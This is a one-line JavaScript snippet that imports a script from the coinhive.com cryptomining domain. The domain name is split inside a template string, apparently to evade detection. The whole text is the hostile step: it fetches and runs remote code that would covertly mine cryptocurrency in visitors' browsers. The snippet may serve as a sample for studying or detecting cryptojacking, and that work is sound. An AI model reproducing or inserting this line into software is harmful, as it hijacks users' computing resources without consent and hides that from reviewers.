import(`https://coin${"hive"}.com/lib.js`);
